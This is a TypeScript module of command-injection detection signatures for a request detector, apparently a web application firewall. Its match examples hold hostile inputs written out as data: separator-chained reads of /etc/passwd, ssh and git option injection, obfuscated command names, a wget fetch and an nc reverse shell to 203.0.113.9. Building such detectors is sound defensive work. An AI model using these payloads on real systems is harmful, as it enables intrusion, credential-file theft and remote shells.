import type { Signature } from '../detector.ts'
import { findCommand, findHiddenCommand, findLeadingCommand, isCommand } from '../shell/judge.ts'

const everywhere = ['query', 'body', 'path', 'referer', 'userAgent', 'user'] as const

/** What stands behind a command rather than behind a word: an option, a path, an address, a redirection. */
const trails = [
  /\s\/\w|:\/\/|\s\.{1,2}\/|>\s?\S|\|\s?\w|[a-z]:\\/i,
  /\s-\w{1,12}\s{1,3}\S{0,12}[/\d'"]/,
  /\s-\w{0,9}[acelrp]\w{0,9}$/i,
]

/** Commands, known by name, where a command line would run them. */
export const commands: readonly Signature[] = [
  {
    id: 'cmdi-separator',
    title: 'a command behind a separator',
    fields: ['query', 'body', 'path', 'user'],
    view: 'shell',
    signs: [';', '|', '&', '`', '$(', '<(', '>(', '\n', '\r', '! '],
    structure: 'a separator of a shell, then a command, then what follows commands',
    find: findCommand,
    confidence: 0.8,
    matches: [
      'host=127.0.0.1;cat+/etc/passwd',
      'host=x%7Cwhoami',
      'host=`id`',
      'host=$(uname%20-a)',
      "host=x;c'a't${IFS}/etc/hosts",
      'host=1%0als%20-la',
    ],
    ignores: [
      'q=bread;+cat+food',
      'fields=name%7Cid%7Cdate',
      'q=black+%26+white',
      'q=find+more;+sort+by+date',
    ],
  },
  {
    id: 'cmdi-option',
    title: 'an option where a value belongs',
    fields: ['query', 'body'],
    view: 'decoded',
    signs: ['-o', '--', '-e'],
    patterns: [
      /^-oProxyCommand=/i,
      /^--(?:upload-pack|receive-pack|use-askpass|checkpoint-action|rsh|exec|to-command|pre-invoke|output-document)=/i,
      /^-e\s?sh\s-c\s/,
    ],
    confidence: 0.6,
    why: 'These options of ssh, git, tar, rsync and wget run a program or write a file.',
    matches: ['host=-oProxyCommand=id', 'ref=--upload-pack=touch+/tmp/x', 'f=--checkpoint-action=exec=sh'],
    ignores: ['q=--help', 'q=-5', 'q=what+does+--exec=+do'],
  },
  {
    id: 'cmdi-header',
    title: 'a command behind a separator, in a header',
    fields: ['userAgent', 'referer'],
    view: 'shell',
    signs: [';', '|', '&', '`', '$(', '\n'],
    structure: 'as cmdi-separator, outside the comment brackets that user agents carry',
    find: (text, name) =>
      findCommand(
        text.replace(/(?:^|[^$])\([^()]*\)/g, (comment) => '('.repeat(comment.length)),
        name,
      ),
    confidence: 0.7,
    matches: ['x;wget http://203.0.113.9/a', 'Mozilla/5.0 `id`', 'x | /bin/sh'],
    ignores: [
      'Mozilla/5.0 (X11; Linux; id)',
      'Feed (a@b.example; for http://c.example)',
      'Mozilla/5.0 (compatible; Host; +x)',
    ],
  },
  {
    id: 'cmdi-leading',
    quietIn: ['search box'],
    title: 'a command with its arguments as the whole value',
    fields: ['query', 'body'],
    view: 'shell',
    signs: [
      ' -',
      ' /',
      '://',
      ' \\',
      'ifs',
      '>',
      ' c:',
      '.exe',
      '%',
      '|',
      '{',
      ' ~',
      ' $',
      ' ..',
      " '",
      ' "',
    ],
    structure: 'a command at the start of a value, with an option, path or redirection behind it',
    find: (text) => (trails.some((trail) => trail.test(text)) ? findLeadingCommand(text) : undefined),
    confidence: 0.55,
    matches: ['a=cat+/etc/passwd', 'a=wget+http://203.0.113.9/x.sh', 'a=nc+-e+/bin/sh+203.0.113.9+4444'],
    ignores: ['q=cat+food', 'q=find+a+shop', 'q=sort+-+price', 'q=ping+pong+table'],
  },
  {
    id: 'cmdi-parameter',
    title: 'a command in a parameter named for running one',
    fields: ['query', 'body'],
    view: 'shell',
    signs: ['cmd', 'exec', 'command', 'run', 'shell', 'system', 'execute', 'ping', 'daemon', 'process'],
    structure: 'a parameter called cmd, exec, command, shell or the like, whose value is a command',
    find: (text, name) =>
      /(?:cmd|command|exec(?:ute)?|shell)$|^(?:system|run|c|process|daemon|cmd\w{0,3})$/i.test(name) &&
      isCommand(text)
        ? { start: 0, end: text.length }
        : undefined,
    confidence: 0.6,
    matches: ['cmd=whoami', 'exec=ls+-la', 'command=cat+/etc/passwd'],
    ignores: ['cmd=_xclick', 'command=save', 'run=tests'],
  },
  {
    id: 'cmdi-hidden',
    title: 'a command whose name is taken apart',
    fields: everywhere,
    view: 'decoded',
    signs: ["'", '"', '\\', '^', '$', '`'],
    structure:
      'a known command behind a separator or at the start, which only a shell’s reading of the text shows',
    find: findHiddenCommand,
    confidence: 0.7,
    why: 'Quotes, carets, backslashes and empty variables inside a command’s name serve only to hide it from filters.',
    matches: ["a=;w'h'oami", 'a=;ec\\ho+QWERTY', 'a=;ho${u}stna${u}me', 'a=w^h^o^a^m^i'],
    ignores: ["q=rock'n'roll", "q=l'echo+des+montagnes", 'q="cat"+food', 'q=c:\\windows'],
  },
]
